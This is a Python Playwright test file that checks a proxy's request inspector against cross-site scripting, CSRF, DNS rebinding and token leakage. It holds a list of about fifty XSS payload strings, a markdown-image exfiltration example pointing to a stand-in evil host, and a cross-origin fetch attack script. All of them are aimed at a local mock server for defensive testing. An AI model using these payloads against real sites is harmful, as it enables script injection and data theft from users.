"""Group H in a real browser: what was captured neither runs nor loads, and no other site can act or read."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product
from pathlib import Path
from urllib.parse import quote

import psutil
import pytest
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Dialog, Page, Request, sync_playwright

from tests.inspector.conftest import CHROMIUM
from tests.kit import laws
from tests.kit.process import Proxy
from tests.kit.raw import Reply, ask, post
from tests.kit.upstream import Talk, Upstream

VECTORS = (
    "<script>alert(1)</script>",
    "<script src=EVIL/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=EVIL/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script href=EVIL/a.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=EVIL/a.svg#x></use></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=EVIL/a></iframe>",
    "<object data=EVIL/a.swf></object>",
    "<embed src=EVIL/a.swf>",
    "<link rel=stylesheet href=EVIL/a.css>",
    "<link rel=preload as=script href=EVIL/a.js>",
    "<link rel=dns-prefetch href=EVIL>",
    "<style>@import 'EVIL/a.css';</style>",
    "<style>body{background:url(EVIL/a.png)}</style>",
    "<base href=EVIL/>",
    "<meta http-equiv=refresh content='0;url=EVIL/'>",
    "<form action=EVIL/><button autofocus onfocus=alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=EVIL/a.mp4 onerror=alert(1) autoplay></video>",
    "<audio src=EVIL/a.mp3 onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=EVIL/ ping=EVIL/ping>x</a>",
    "<math><mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<portal src=EVIL/></portal>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=EVIL/a.png><tr><td>x</table>",
    "<div style=\"background:url('EVIL/a.png')\">x</div>",
    "![x](EVIL/a.png)",
    "[x](javascript:alert(1))",
    "[x]: EVIL/a.png\n![x]",
    "```html\n<script>alert(1)</script>\n```",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202e<!--<img src=EVIL/a.png>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "EVIL/a.png",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<img/src=x/onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)
BREAKERS = ("", "\"'>", "</textarea></pre></code></title></script>", "--><!]]>\x00")
PAYLOADS = tuple(breaker + vector for breaker, vector in product(BREAKERS, VECTORS))
VIEWS = ("", "?raw=1", "?view=json", "?view=json&hop=client_request", "?view=json&hop=upstream_response")


@dataclass
class Stage:
    """A proxy whose upstream says what it is told to, and a server that no page may ask."""

    proxy: Proxy
    upstream: Upstream
    evil: Upstream
    answer: bytes = b"{}"
    headers: str = ""
    status: str = "200 OK"
    stream: bool = False

    def script(self, talk: Talk) -> None:
        """Answer one request."""
        if self.stream:
            talk.stream([self.answer], headers=self.headers)
        else:
            talk.answer(self.answer, status=self.status, headers=self.headers)

    def ask(self, body: object, *, path: str = "/v1/messages", headers: str = "") -> Reply:
        """One POST, recorded when this returns."""
        reply = self.send(body, path=path, headers=headers)
        self.proxy.exchange(reply.request_id)
        return reply

    def send(self, body: object, *, path: str = "/v1/messages", headers: str = "") -> Reply:
        """One POST."""
        raw = body if isinstance(body, bytes) else json.dumps(body).encode()
        return ask(self.proxy.base_url, post(path, raw, headers))


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    relay = "max_body = '128MiB'\n"
    rest = "[capture]\nmax_request = '64MiB'\nmax_response = '64MiB'\n"
    with Upstream().running() as upstream, Upstream().running() as evil:
        proxy = Proxy(tmp_path_factory.mktemp("proxy"), upstream.url, relay=relay, rest=rest)
        with proxy.running():
            made = Stage(proxy, upstream, evil)
            upstream.script = made.script
            yield made
            laws.check(proxy)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """A browser for which `evil.test` is this machine."""
    with sync_playwright() as playwright:
        rules = "--host-resolver-rules=MAP evil.test 127.0.0.1"
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", rules])
        yield browser
        browser.close()


@pytest.fixture
def context(chromium: Browser, stage: Stage) -> Iterator[BrowserContext]:
    """A fresh profile that is signed in."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(f"{stage.proxy.inspector_url}/sign-in")
    page.fill("#token", stage.proxy.token)
    page.press("#token", "Enter")
    page.wait_for_url("**/requests")
    page.close()
    yield context
    context.close()


@dataclass
class Noticed:
    """What a page did that it must not."""

    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)

    def watch(self, page: Page, base: str) -> None:
        """Notes everything of one page."""

        def asked_person(dialog: Dialog) -> None:
            self.dialogs.append(dialog.message)
            dialog.dismiss()

        def asked(request: Request) -> None:
            if not request.url.startswith(f"{base}/"):
                self.foreign.append(request.url)

        def said(message: ConsoleMessage) -> None:
            if message.type == "error":
                self.violations.append(message.text)

        page.on("dialog", asked_person)
        page.on("request", asked)
        page.on("console", said)

    def assert_nothing(self) -> None:
        """No dialog, no request to anybody else, nothing that the policy had to stop."""
        assert (self.dialogs, self.foreign) == ([], [])
        assert [text for text in self.violations if "Content Security Policy" in text] == []


NO_ELEMENTS = "main script, main img, main iframe, main style, main object, main embed, main base, main link, main meta"


def clean(page: Page) -> None:
    """Asserts that all that was captured is text."""
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    assert page.locator(f"{NO_ELEMENTS}, main svg script, main video, main audio").count() == 0
    assert page.locator("main a[href^='javascript:' i], main a[href^='data:' i], main [style]").count() == 0


@pytest.mark.parametrize("breaker", BREAKERS)
def test_h3_two_hundred_payloads_in_every_single_field_stay_text(
    stage: Stage, context: BrowserContext, breaker: str
) -> None:
    """Model, session, client, workflow, path, query, error, provider's id, header names and values, event names."""
    assert len(set(PAYLOADS)) == 200
    ids = []
    for number, vector in enumerate(breaker + vector for vector in VECTORS):
        payload = vector.replace("EVIL", stage.evil.url)
        line = payload.replace("\n", " ").replace("\x00", "")
        fields = (
            f"User-Agent: {line}\r\nX-Proxy-Workflow: {line}\r\nX-Claude-Code-Session-Id: {line}\r\nX-Evil: {line}\r\n"
        )
        error = {"type": "error", "error": {"type": payload, "message": payload}, "request_id": payload}
        wire = line.encode().decode("latin-1")
        stage.answer, stage.headers = json.dumps(error).encode(), f"request-id: {wire}\r\nx-evil: {wire}\r\n"
        stage.status = "400 Bad Request" if number % 2 else "200 OK"
        path = f"/v1/messages/{quote(payload, safe='<>()=;:!')[:900]}?q={quote(payload, safe='<>()=;:!')[:900]}"
        body = {"model": payload, "metadata": {"user_id": payload}, "stream": payload, "messages": payload}
        ids.append(stage.send(body, path="/v1/messages" if number % 4 else path, headers=fields).request_id)
    stage.proxy.exchange(ids[-1])
    noticed, page = Noticed(), context.new_page()
    noticed.watch(page, stage.proxy.inspector_url)
    base = f"{stage.proxy.inspector_url}/requests"
    page.goto(f"{base}?operation=all&limit=200")
    clean(page)
    for number, request_id in enumerate(ids):
        page.goto(f"{base}/{request_id}{VIEWS[number % len(VIEWS)]}", wait_until="commit")
        page.wait_for_selector("h1")
        clean(page)
    noticed.assert_nothing()
    assert stage.evil.connections == 0


def test_h3_two_hundred_payloads_in_every_list_of_a_conversation_stay_text(
    stage: Stage, context: BrowserContext
) -> None:
    """Messages, blocks, tools, tool results, file names, system prompts, keys of objects; streamed answers too."""
    payloads = [vector.replace("EVIL", stage.evil.url) for vector in PAYLOADS]
    events = [_event("message_start", message={"id": "a", "model": "m", "content": [], "usage": {}})]
    for index, payload in enumerate(payloads):
        kind = ("text", "thinking", "tool_use")[index % 3]
        block = {"type": kind, kind: "", "name": payload, "id": payload, "input": {}}
        events.append(_event("content_block_start", index=index, content_block=block))
        delta = {"type": f"{kind}_delta", kind: payload} if kind != "tool_use" else _partial(payload)
        events.append(_event("content_block_delta", index=index, delta=delta))
        events.append(f"event: {payload.splitlines()[0]}\ndata: {json.dumps(payload)}\n\n".encode())
    stage.stream, stage.answer, stage.headers = True, b"".join(events), ""
    reply = stage.ask({"model": "claude-sonnet-4-6", "stream": True, **_conversation(payloads)})
    stage.stream = False
    noticed, page = Noticed(), context.new_page()
    noticed.watch(page, stage.proxy.inspector_url)
    for view in VIEWS:
        page.goto(f"{stage.proxy.inspector_url}/requests/{reply.request_id}{view}")
        clean(page)
    noticed.assert_nothing()
    assert stage.evil.connections == 0


def _event(name: str, **payload: object) -> bytes:
    return f"event: {name}\ndata: {json.dumps({'type': name, **payload})}\n\n".encode()


def _partial(payload: str) -> dict[str, str]:
    return {"type": "input_json_delta", "partial_json": json.dumps({payload: payload})}


def _conversation(payloads: list[str]) -> dict[str, object]:
    source = {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}
    user = [
        block
        for payload in payloads
        for block in (
            {"type": "text", "text": payload, "cache_control": {"type": payload}},
            {"type": "tool_result", "tool_use_id": payload, "content": payload},
            {"type": "image", "source": {**source, "media_type": payload}},
            {"type": "image", "source": {"type": "url", "url": payload}},
            {"type": "document", "title": payload, "source": {"type": "text", "data": payload}},
            {"type": payload, payload: payload},
        )
    ]
    tools = [{"name": payload, "description": payload, "input_schema": {payload: payload}} for payload in payloads]
    calls = [{"type": "tool_use", "id": payload, "name": payload, "input": {payload: payload}} for payload in payloads]
    return {
        "system": [{"type": "text", "text": payload} for payload in payloads],
        "tools": tools,
        "messages": [{"role": "user", "content": user}, {"role": "assistant", "content": calls}]
        + [{"role": payload, "content": payload} for payload in payloads],
    }


POLICY = {
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "connect-src 'self'",
    "img-src 'self' data:",
    "form-action 'self'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
}


def test_h3_every_answer_of_the_inspector_has_the_policy(stage: Stage, context: BrowserContext) -> None:
    """And a script that got past the escaping would not run."""
    reply = stage.ask({"model": "m"})
    page = context.new_page()
    for path in (
        "/requests",
        f"/requests/{reply.request_id}",
        "/requests/rows",
        "/nothing",
        "/sign-in",
        "/api/v1/exchanges",
    ):
        answer = page.request.get(stage.proxy.inspector_url + path)
        assert set(answer.headers["content-security-policy"].split("; ")) == POLICY, path
    page.goto(f"{stage.proxy.inspector_url}/requests")
    stopped = """() => new Promise((done) => {
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
    })"""
    assert page.evaluate(stopped) == "script-src-elem"
    assert page.evaluate("window.ran") is None


def test_h4_what_a_model_writes_is_shown_and_never_followed(stage: Stage, context: BrowserContext) -> None:
    text = (
        f"# head\n![exfiltrate]({stage.evil.url}/?stolen=1) [click](javascript:alert(1)) <img src={stage.evil.url}/b>"
    )
    answer = {"type": "message", "role": "assistant", "content": [{"type": "text", "text": text}], "usage": {}}
    stage.answer, stage.status, stage.headers = json.dumps(answer).encode(), "200 OK", ""
    reply = stage.ask({"model": "m", "messages": [{"role": "user", "content": text}]})
    noticed, page = Noticed(), context.new_page()
    noticed.watch(page, stage.proxy.inspector_url)
    page.goto(f"{stage.proxy.inspector_url}/requests/{reply.request_id}")
    clean(page)
    assert page.get_by_text("![exfiltrate]").count() >= 2
    noticed.assert_nothing()


def test_h5_opening_a_raw_body_downloads_it(stage: Stage, context: BrowserContext) -> None:
    reply = stage.ask(b"<script>alert(1)</script>")
    address = f"{stage.proxy.inspector_url}/api/v1/exchanges/{reply.request_id}/bodies/client_request"
    page = context.new_page()
    page.goto(f"{stage.proxy.inspector_url}/requests")
    with page.expect_download() as download:
        page.evaluate("(address) => { window.location = address; }", address)
    assert Path(download.value.path()).read_bytes() == b"<script>alert(1)</script>"


ATTACK = """async (targets) => {
    const told = [];
    for (const [address, mode] of targets) {
        const options = {method: "POST", body: "{}", mode, credentials: "include"};
        told.push(await fetch(address, options).then((answer) => answer.type + answer.status, () => "refused"));
    }
    return told;
}"""


def test_h6_a_page_of_another_site_can_neither_spend_nor_sign_out_nor_read(
    stage: Stage, context: BrowserContext
) -> None:
    stage.evil.script = lambda talk: talk.answer(b"<!doctype html><title>evil</title>", content_type="text/html")
    before, asked = stage.evil.connections, len(stage.upstream.seen)
    page = context.new_page()
    page.goto(f"http://evil.test:{stage.evil.port}/")
    relay, inspector = stage.proxy.base_url, stage.proxy.inspector_url
    targets = [
        (f"{relay}/v1/messages", "no-cors"),
        (f"{inspector}/sign-out", "no-cors"),
        (f"{relay}/v1/messages", "cors"),
    ]
    assert page.evaluate(ATTACK, targets) == ["opaque0", "opaque0", "refused"]
    read = f"fetch('{inspector}/api/v1/exchanges', {{credentials: 'include'}}).then(() => 'read', () => 'refused')"
    assert page.evaluate(read) == "refused"
    form = f"""() => {{
        const form = document.createElement("form");
        form.method = "post"; form.enctype = "text/plain"; form.action = "{relay}/v1/messages";
        document.body.append(form); form.submit();
    }}"""
    with page.expect_navigation() as sent:
        page.evaluate(form)
    assert sent.value.status == 403
    assert [seen.line for seen in stage.upstream.seen[asked:] if seen.line.startswith(b"POST ")] == []
    page.goto(f"{inspector}/requests")
    assert page.get_by_role("heading", name="Requests").count() == 1
    stage.evil.connections = before


def test_h7_a_rebound_name_shows_nothing_in_a_browser(stage: Stage, context: BrowserContext) -> None:
    page = context.new_page()
    for address in (stage.proxy.inspector_url, stage.proxy.base_url):
        port = address.rpartition(":")[2]
        for path in ("/requests", "/metrics", "/api/v1/exchanges", "/v1/models"):
            answer = page.goto(f"http://evil.test:{port}{path}")
            assert answer is not None
            assert answer.status == 403


def test_h8_the_token_is_in_no_address_and_the_session_goes_nowhere_else(stage: Stage, context: BrowserContext) -> None:
    told: list[str] = []
    page = context.new_page()
    page.on("request", lambda request: told.extend((request.url, request.headers.get("referer", ""))))
    page.goto(f"{stage.proxy.inspector_url}/requests")
    page.reload()
    page.goto(f"{stage.proxy.base_url}/v1/models")
    assert b"anthropic-proxy-" not in stage.upstream.seen[-1].head
    [cookie] = context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    page.goto(f"{stage.proxy.inspector_url}/requests")
    assert page.evaluate("document.cookie") == ""
    assert [text for text in told if stage.proxy.token in text or cookie["value"] in text] == []


EVENTS = 100_000


def test_h21_a_body_of_50_mb_and_100000_events_do_not_choke_a_tab(stage: Stage, context: BrowserContext) -> None:
    """The page shows the beginning and says so; the whole is a download."""
    text = "so it is said " * 3_700_000
    event = _event("content_block_delta", index=0, delta={"type": "text_delta", "text": "a"})
    start = _event("message_start", message={"id": "a", "model": "m", "content": [], "usage": {}})
    block = _event("content_block_start", index=0, content_block={"type": "text", "text": ""})
    stage.stream, stage.answer, stage.headers = True, start + block + event * EVENTS, ""
    reply = stage.ask({"model": "m", "stream": True, "messages": [{"role": "user", "content": text}]})
    stage.stream = False
    page = context.new_page()
    for view in VIEWS:
        answer = page.goto(f"{stage.proxy.inspector_url}/requests/{reply.request_id}{view}", timeout=20_000)
        assert answer is not None
        assert answer.status == 200
        assert len(answer.body()) < 8_000_000, view
        assert page.evaluate("document.getElementsByTagName('*').length") < 100_000, view
        assert page.evaluate("performance.memory.usedJSHeapSize") < 500_000_000
    with stage.proxy.client() as client:
        whole = client.get(f"/api/v1/exchanges/{reply.request_id}/bodies/upstream_response")
    assert whole.content.count(b"content_block_delta\n") == EVENTS
    assert psutil.Process(stage.proxy.pid("observer")).memory_info().rss < 1_500_000_000
    assert threading.active_count() < 100
